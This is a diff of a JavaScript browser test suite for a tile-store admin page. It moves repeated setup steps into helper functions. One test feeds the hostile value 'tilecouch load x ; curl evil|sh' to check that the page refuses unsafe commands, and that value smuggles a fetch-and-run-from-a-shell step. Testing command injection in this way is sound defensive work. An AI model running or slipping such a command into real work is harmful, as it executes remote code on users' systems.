@@ -12,6 +12,7 @@ import { useFolder } from '../support/folder.js'
 import { startUpstream } from '../support/upstream-server.js'
 import { png, square } from '../support/tiles.js'
 import { isRead, onAdmin, runOf, timeOf } from '../support/control-room.js'
+import { becomeUser, enterSection, writeDocuments } from './steps.js'
 
 const LIVE = 2000 // milliseconds within which a change must show
 const LOOK = 5000 // milliseconds between two looks of the page at mirrors on other machines
@@ -104,8 +105,7 @@ onAdmin('the section Work', (stage, kind) => {
   })
 
   it('offers no command from unsafe arguments, and quotes the arguments of the others', async () => {
-    const page = await stage.enter('work')
-    await isRead(page, '.work')
+    const page = await enterSection(stage, 'work')
     const evil = 'tilecouch load x ; curl evil|sh'
     const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
     await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
@@ -127,8 +127,7 @@ onAdmin('the section Work', (stage, kind) => {
 
   it('shows the end of a load and a check, and a failed command with its advice', async function () {
     this.timeout(90000)
-    const page = await stage.enter('work')
-    await isRead(page, '.work')
+    const page = await enterSection(stage, 'work')
     const tiles = path.join(folder.dir, 'tiles', '5', '1')
     await mkdir(tiles, { recursive: true })
     for (let y = 0; y < 3; y++) await writeFile(path.join(tiles, `${y}.png`), png(y))
@@ -157,8 +156,7 @@ onAdmin('the section Work', (stage, kind) => {
   })
 
   it('shows changes within two seconds, and keeps opened details open', async () => {
-    const page = await stage.enter('work')
-    await isRead(page, '.work')
+    const page = await enterSection(stage, 'work')
     const id = await write(
       { command: 'backup', unit: 'documents', done: 1, total: 100, failed: 1, failures: ['osm:1:1:1: gone'], rate: 10 }
     )
@@ -179,11 +177,7 @@ onAdmin('the section Work', (stage, kind) => {
       await write({ command: 'check', layer: user, user, state: 'done', finished: timeOf(Date.now()) })
     }
     const page = await stage.visit('work')
-    await page.route('**/_session', async (route, request) => {
-      if (request.method() !== 'GET') return route.continue()
-      await route.fulfill({ json: { ok: true, userCtx: { name: 'wanda', roles: ['tilecouch-writer'] } } })
-    })
-    await page.reload()
+    await becomeUser(page, { name: 'wanda', role: 'tilecouch-writer' })
     await isRead(page, '.work')
     await part(page, 'Ended').locator('tbody tr').nth(1).waitFor()
     assert.deepEqual(await page.locator('#sections a').allInnerTexts(), ['Layers', 'Work'])
@@ -208,22 +202,17 @@ onAdmin('the section Work', (stage, kind) => {
 
   it('draws a part of many past runs, and filters them', async () => {
     const now = Date.now()
-    let batch = []
-    for (let number = 0; number < RUNS; number++) {
+    await writeDocuments(stage, Array.from({ length: RUNS }, (_, number) => {
       const time = now - Math.floor(number * 80 * DAY / RUNS) - DAY
       const isRare = number === RUNS - 1
-      batch.push({
+      return {
         _id: workId(runOf(time, number)), type: 'work', command: isRare ? 'backup' : 'load',
         layer: `sheet-${number % 200}`,
         state: number % 50 ? 'done' : 'failed', started: timeOf(time),
         seen: timeOf(time + 9000), finished: timeOf(time + 9000),
         unit: 'tiles', done: 1000, total: 1000, rate: 111, user: stage.owner.name
-      })
-      if (batch.length === 1000) {
-        assert.deepEqual((await stage.store.couch.bulk(batch)).filter(({ error }) => error).slice(0, 3), [])
-        batch = []
       }
-    }
+    }))
     const page = await stage.enter('layers')
     await page.locator('#sections').getByText('Work').click()
     const past = part(page, 'Ended')
@@ -251,10 +240,11 @@ onAdmin('the section Work', (stage, kind) => {
   describe('mirrors', () => {
     /** @type {Store} */
     let otherStore
+    let otherUrl = ''
+
     before(async () => {
-      const url = new URL(stage.backend.database)
-      url.pathname = `/mirror_${process.pid}_${Date.now().toString(36)}`
-      otherStore = await Store.create(url.href, { public: true })
+      otherUrl = new URL(`/mirror_${process.pid}_${Date.now().toString(36)}`, stage.backend.database).href
+      otherStore = await Store.create(otherUrl, { public: true })
       await otherStore.defineLayer('sea')
       await otherStore.write(square({ layer: 'sea', time: '2021-01-01T00:00:00Z', side: 2, seed: (x, y) => x * 2 + y }))
       await stage.store.defineLayer('land')
@@ -262,16 +252,10 @@ onAdmin('the section Work', (stage, kind) => {
     // the folder of an embedded store is already removed
     after(() => kind === 'CouchDB' && otherStore?.destroy())
 
-    const urlOf = store => {
-      const url = new URL(stage.backend.database)
-      url.pathname = `/${store.couch.db}`
-      return url.href
-    }
     it('are shown with their source and target, and as interrupted after a long silence', async function () {
       this.timeout(90000)
-      const page = await stage.enter('work')
-      await isRead(page, '.work')
-      const { child } = startCommand(['mirror', urlOf(otherStore), stage.backend.database, '--live', '--layer', 'sea'])
+      const page = await enterSection(stage, 'work')
+      const { child } = startCommand(['mirror', otherUrl, stage.backend.database, '--live', '--layer', 'sea'])
       const running = part(page, 'Running now').locator('.run').filter({ hasText: otherStore.couch.db })
       try {
         await running.getByText(/^up to date · .* documents/).waitFor()
@@ -297,9 +281,8 @@ onAdmin('the section Work', (stage, kind) => {
         }
       })
       const docs = [mirrorWork(1, { lag: 900 }), mirrorWork(2, { refused: 3 }), mirrorWork(3, { state: 'away' })]
-      assert.deepEqual((await stage.store.couch.bulk(docs)).filter(({ error }) => error), [])
-      const page = await stage.enter('work')
-      await isRead(page, '.work')
+      await writeDocuments(stage, docs)
+      const page = await enterSection(stage, 'work')
       const run = number => part(page, 'Running now').locator('.run')
         .filter({ hasText: `https://main-${number}.example.org/tiles → embedded` })
       await run(1).getByText(/^up to date · 15 mins? behind · 100 documents$/).waitFor()
@@ -309,7 +292,7 @@ onAdmin('the section Work', (stage, kind) => {
 
     it('on other machines are shown by their checkpoints, with their layers and lag', async function () {
       this.timeout(60000)
-      const mirror = ['mirror', stage.backend.database, urlOf(otherStore), '--layer', 'land']
+      const mirror = ['mirror', stage.backend.database, otherUrl, '--layer', 'land']
       const page = await enterWithClock()
       const copies = part(page, 'Mirrors on other machines')
       assert.equal(await copies.isVisible(), false, 'a mirror into this store is none of it')
